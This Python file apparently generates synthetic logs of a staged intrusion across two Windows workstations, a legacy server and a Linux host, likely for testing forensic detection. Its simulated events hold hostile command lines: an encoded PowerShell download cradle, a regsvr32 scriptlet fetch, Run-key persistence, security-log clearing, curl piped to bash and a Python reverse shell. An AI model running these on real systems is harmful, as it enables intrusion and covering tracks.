"""The ``demo`` scenario: a small, believable intrusion on two Windows workstations, an old
Windows 2003 server and a Linux server, among a day of background activity.

WS01: alice logs on; Outlook opens a document in Word; Word starts a hidden, encoded
PowerShell, which fetches a scriptlet with regsvr32, runs ftp with a script, drops
``C:\\Users\\Public\\updater.exe`` and runs it, and writes a Run key with ``reg add``;
alice uses ``runas`` for an admin prompt. The admin's RDP logon moves to WS02, where a
shell runs five discovery commands in 80 s (whoami, net group, nltest, ipconfig,
systeminfo: a discovery burst), then the Security log is cleared and the clock set back
two hours. OLD2003 logs 528/592/593/600 (a token assigned by services.exe) and loses
records in transit, so a PID is reused while its first process seems to run on. lnx01:
cron, then alice's SSH session pipes curl into bash. explorer.exe of an earlier logon has
been running for days on WS01.
"""

from __future__ import annotations

import base64
import random
from datetime import UTC, datetime

from proctrail.generate.linux import LinuxHost
from proctrail.generate.model import SECOND, SECURITY, Account, Host
from proctrail.generate.windows import NETWORK_SERVICE, SYSTEM, WindowsHost

DAY = int(datetime(2026, 11, 2, tzinfo=UTC).timestamp()) * SECOND
MINUTE = 60 * SECOND
HOUR = 60 * MINUTE
SYS32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
ATTACKER = "203.0.113.7"
PS_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://updates.example.com/c.ps1')"
PS_ENCODED = base64.b64encode(PS_SCRIPT.encode("utf-16-le")).decode("ascii")

ALICE = Account("CORP", "alice", "S-1-5-21-1004336348-1177238915-682003330-1107", 0x5B3F21)
BOB = Account("CORP", "bob", "S-1-5-21-1004336348-1177238915-682003330-1108", 0x1A2B3C)
ADMIN = Account("CORP", "itadmin", "S-1-5-21-1004336348-1177238915-682003330-1110", 0x77E1A0,
                "High")
ADMIN_RDP = Account("CORP", "itadmin", ADMIN.sid, 0x9C4D02, "High")
BACKUP = Account("CORP", "svc_backup", "S-1-5-21-1004336348-1177238915-682003330-1201",
                 0x3F1E, "High")
LNX_ROOT = Account("lnx01", "root", "0", 0)
LNX_ALICE = Account("lnx01", "alice", "1000", 1000)


def at(hours: float) -> int:
    """True time ``hours`` after midnight of the scenario's day."""
    return DAY + int(hours * HOUR)


def _boot(w: WindowsHost) -> dict[str, object]:
    """The processes running since boot (before the logs): their starts are not logged."""
    system = w.existing(4, "System", "")
    smss = w.existing(0x164, SYS32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe", parent=system)
    wininit = w.existing(0x218, SYS32 + "wininit.exe", "wininit.exe", parent=smss)
    services = w.existing(0x2E8, SYS32 + "services.exe", SYS32 + "services.exe", parent=wininit)
    winlogon = w.existing(0x2A4, SYS32 + "winlogon.exe", "winlogon.exe", parent=smss)
    return {"system": system, "services": services, "winlogon": winlogon}


def _background(w: WindowsHost, services: object, rng: random.Random, start: float,
                end: float, every_min: float) -> None:
    """Service-host noise: svchost starting short tasks all day."""
    svchost = w.start(at(start), SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe "
                      "-k netsvcs -p", services, SYSTEM)  # type: ignore[arg-type]
    tasks = [(SYS32 + "taskhostw.exe", SYS32 + "taskhostw.exe"),
             (SYS32 + "wbem\\WmiPrvSE.exe", SYS32 + "wbem\\WmiPrvSE.exe -secured -Embedding"),
             (SYS32 + "backgroundTaskHost.exe", SYS32 + "backgroundTaskHost.exe "
              "-ServerName:BackgroundTaskHost.WebAccountProvider"),
             ("C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
              '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -wdenable'),
             (SYS32 + "sc.exe", "sc.exe query wuauserv")]
    t = start + 0.05
    while t < end:
        image, cmd = rng.choice(tasks)
        account = NETWORK_SERVICE if image.endswith("WmiPrvSE.exe") else SYSTEM
        p = w.start(at(t), image, cmd, svchost, account)
        w.exit(at(t) + rng.randrange(2, 90) * SECOND, p)
        t += every_min / 60 * rng.uniform(0.5, 1.5)


def ws01(rng: random.Random) -> WindowsHost:
    w = WindowsHost("WS01.corp.example", rng)
    boot = _boot(w)
    services, winlogon = boot["services"], boot["winlogon"]
    # bob logged on days ago; his explorer has run since (its start is not in the logs).
    bobs = w.existing(0x1F4C, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", BOB)
    onedrive = w.start(at(9.5), "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\"
                       "OneDrive.exe", "OneDrive.exe /background", bobs)
    w.exit(at(16.9), onedrive)
    w.exit(at(17.0), bobs)
    w.logon(at(6.0), SYSTEM, "Service", elevated=True)  # the services' logon, with 4672
    _background(w, services, rng, 6.0, 18.0, 12)
    s = w.logon(at(8.2), ALICE, "Interactive", "127.0.0.1", "WS01")
    userinit = w.start(at(8.2) + 400_000, SYS32 + "userinit.exe", SYS32 + "userinit.exe",
                       winlogon, ALICE, creator=SYSTEM)  # type: ignore[arg-type]
    explorer = w.start(at(8.2) + 2 * SECOND, "C:\\Windows\\explorer.exe",
                       "C:\\Windows\\Explorer.EXE", userinit, cwd="C:\\Windows\\system32\\")
    w.exit(at(8.2) + 31 * SECOND, userinit)
    outlook = w.start(at(8.26), OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"', explorer)
    word = w.start(at(8.35), OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n '
                   '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.'
                   'Outlook\\Q3-invoice.docm" /o ""', outlook,
                   cwd="C:\\Users\\alice\\Documents\\")
    t = at(8.36)
    ps = w.start(t, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                 f"powershell.exe -NoP -WindowStyle Hidden -enc {PS_ENCODED}", word)
    w.dns(t + 2 * SECOND, ps, "updates.example.com", ATTACKER)
    w.connect(t + 3 * SECOND, ps, ATTACKER, 80)
    regsvr = w.start(t + 5 * SECOND, SYS32 + "regsvr32.exe", "regsvr32.exe /s /n /u "
                     f"/i:http://{ATTACKER}/a.sct scrobj.dll", ps)
    w.exit(t + 8 * SECOND, regsvr)
    ftp = w.start(t + 10 * SECOND, SYS32 + "ftp.exe", "ftp.exe -s:C:\\Users\\Public\\s.txt", ps)
    w.exit(t + 14 * SECOND, ftp)
    updater = w.start(t + 16 * SECOND, "C:\\Users\\Public\\updater.exe",
                      "C:\\Users\\Public\\updater.exe --silent", ps)
    w.connect(t + 20 * SECOND, updater, ATTACKER, 443)
    # Its output is meant for a terminal: markup and escape sequences in a command line.
    echo = w.start(t + 25 * SECOND, SYS32 + "cmd.exe", "cmd.exe /c echo [bold red]x[/bold red]"
                   " \x1b[31mupdate ok\x1b[0m\x1b]0;pwned\x07", updater)
    w.exit(t + 26 * SECOND, echo)
    reg = w.start(t + 18 * SECOND, SYS32 + "reg.exe", "reg.exe add HKCU\\Software\\Microsoft\\"
                  "Windows\\CurrentVersion\\Run /v updater /d C:\\Users\\Public\\updater.exe /f",
                  ps)
    w.exit(t + 19 * SECOND, reg)
    w.exit(t + 40 * SECOND, ps)
    # alice opens an admin prompt: runas, the new process runs as itadmin.
    runas = w.start(at(8.5), SYS32 + "runas.exe", "runas /user:CORP\\itadmin cmd", explorer)
    admin_cmd = w.start(at(8.5) + 9 * SECOND, SYS32 + "cmd.exe", "cmd", runas, ADMIN,
                        creator=ALICE)
    w.exit(at(8.5) + 10 * SECOND, runas)
    mstsc = w.start(at(8.6), SYS32 + "mstsc.exe", "mstsc.exe /v:WS02", admin_cmd)
    # with itadmin's credentials: the RDP session on WS02 (see ws02) it opens
    w.explicit(at(8.62) - 2 * SECOND, mstsc, ADMIN_RDP, "WS02", "198.51.100.46")
    w.exit(at(9.4), mstsc)
    w.exit(at(9.45), admin_cmd)
    w.exit(at(11.7), word)
    w.exit(at(17.5), outlook)
    w.exit(at(17.6), explorer)
    w.logoff(at(17.61), s)
    return w


def ws02(rng: random.Random) -> WindowsHost:
    w = WindowsHost("WS02.corp.example", rng)
    boot = _boot(w)
    services, winlogon = boot["services"], boot["winlogon"]
    # At 09:03 the attacker sets the clock back two hours (see below): declared first, so
    # that every record after it, background included, is stamped by the changed clock.
    w.set_clock(at(9.05), -2 * HOUR, ADMIN_RDP)
    _background(w, services, rng, 6.0, 18.0, 15)
    s = w.logon(at(8.62), ADMIN_RDP, "RemoteInteractive", "198.51.100.45", "WS01", True)
    rdp_init = w.start(at(8.62) + SECOND, SYS32 + "userinit.exe", SYS32 + "userinit.exe",
                       winlogon, ADMIN_RDP, creator=SYSTEM)  # type: ignore[arg-type]
    explorer = w.start(at(8.62) + 3 * SECOND, "C:\\Windows\\explorer.exe",
                       "C:\\Windows\\Explorer.EXE", rdp_init)
    w.exit(at(8.62) + 30 * SECOND, rdp_init)
    cmd = w.start(at(8.7), SYS32 + "cmd.exe", "cmd.exe", explorer)
    for i, (image, line) in enumerate((("whoami.exe", "whoami /all"),
                                       ("net.exe", 'net group "domain admins" /domain'),
                                       ("nltest.exe", "nltest /dclist:corp"),
                                       ("ipconfig.exe", "ipconfig /all"),
                                       ("systeminfo.exe", "systeminfo"))):
        p = w.start(at(8.71) + i * 20 * SECOND, SYS32 + image, line, cmd)
        w.exit(at(8.71) + i * 20 * SECOND + 2 * SECOND, p)
    # The Security log is cleared (Sysmon keeps what came before), then the clock is set
    # back two hours while cmd runs: its end is logged before its start.
    wevtutil = w.start(at(9.0), SYS32 + "wevtutil.exe", "wevtutil cl Security", cmd)
    w.clear(at(9.0) + SECOND, ADMIN_RDP)
    w.exit(at(9.0) + 2 * SECOND, wevtutil)
    w.exit(at(9.1), cmd)
    w.exit(at(9.3), explorer)
    w.logoff(at(9.31), s)
    return w


def old2003(rng: random.Random) -> WindowsHost:
    w = WindowsHost("OLD2003", rng, legacy=True)
    boot = _boot(w)
    services = boot["services"]
    s = w.logon(at(7.0), BOB, "Interactive", "-", "OLD2003")
    shell = w.start(at(7.0) + SECOND, "C:\\WINDOWS\\explorer.exe", "", boot["winlogon"], BOB)
    backup = w.start(at(7.5), "C:\\WINDOWS\\system32\\ntbackup.exe", "", services, SYSTEM,
                     pid=0x7D0)
    w.token(at(7.5) + 200_000, backup, services, BACKUP)  # type: ignore[arg-type]
    w.exit(at(7.9), backup)
    # Records are lost in transit: ntbackup's 593 among them. When PID 2000 is handed to a
    # new process, the old one still seems to run: pid_reused.
    w.lose(SECURITY, at(7.85), at(7.95))
    reuse = w.start(at(8.5), "C:\\WINDOWS\\system32\\cmd.exe", "", shell, pid=0x7D0)
    w.exit(at(8.6), reuse)
    w.exit(at(16.0), shell)
    w.logoff(at(16.01), s)
    return w


def lnx01(rng: random.Random) -> LinuxHost:
    h = LinuxHost("lnx01", rng, first_serial=4480)
    cron = h.existing(612, "/usr/sbin/cron", "/usr/sbin/cron -f", LNX_ROOT)
    sshd = h.existing(812, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", LNX_ROOT)
    ses = 5
    t = at(6.0)
    while t < at(18.0):
        s = h.session(t, LNX_ROOT, ses, "/usr/sbin/cron", "?", "cron")
        sh = h.execve(t + 10_000, cron, ["/bin/sh", "-c", "debian-sa1 1 1"], "/usr/bin/dash", s)
        sa = h.execve(t + 20_000, sh, ["/usr/lib/sysstat/sa1", "1", "1"],
                      "/usr/lib/sysstat/sa1", s)
        h.exit(t + 80_000, sa, s)
        h.exit(t + 90_000, sh, s)
        h.end_session(t + 95_000, s, "/usr/sbin/cron", "cron")
        ses += 1
        t += 30 * MINUTE + rng.randrange(0, 5) * SECOND
    s = h.session(at(8.4), LNX_ALICE, 900, addr="203.0.113.50")
    bash = h.execve(at(8.4) + SECOND, sshd, ["-bash"], "/usr/bin/bash", s, LNX_ALICE,
                    cwd="/home/alice")
    curl = h.execve(at(8.42), bash, ["curl", "-s", f"http://{ATTACKER}/i.sh"], "/usr/bin/curl",
                    s, cwd="/home/alice")
    sh = h.execve(at(8.42) + 1000, bash, ["bash"], "/usr/bin/bash", s, cwd="/home/alice")
    h.exit(at(8.42) + 900_000, curl, s)
    py = h.execve(at(8.43), sh, ["python3", "-c", "import socket,os,pty;s=socket.socket();"
                                 f"s.connect(('{ATTACKER}',4444));pty.spawn('/bin/bash')"],
                  "/usr/bin/python3.11", s, cwd="/home/alice")
    for i, argv in enumerate((["id"], ["uname", "-a"], ["cat", "/etc/passwd"])):
        p = h.execve(at(8.44) + i * 5 * SECOND, py, argv, f"/usr/bin/{argv[0]}", s,
                     cwd="/home/alice")
        h.exit(at(8.44) + i * 5 * SECOND + 50_000, p, s)
    h.exit(at(8.6), py, s)
    h.exit(at(8.6) + 1000, sh, s)
    h.exit(at(8.65), bash, s)
    h.end_session(at(8.66), s)
    return h


def build(seed: int) -> list[Host]:
    """Every host of the scenario, simulated."""
    rng = random.Random(seed)
    return [ws01(random.Random(rng.random())), ws02(random.Random(rng.random())),
            old2003(random.Random(rng.random())), lnx01(random.Random(rng.random()))]
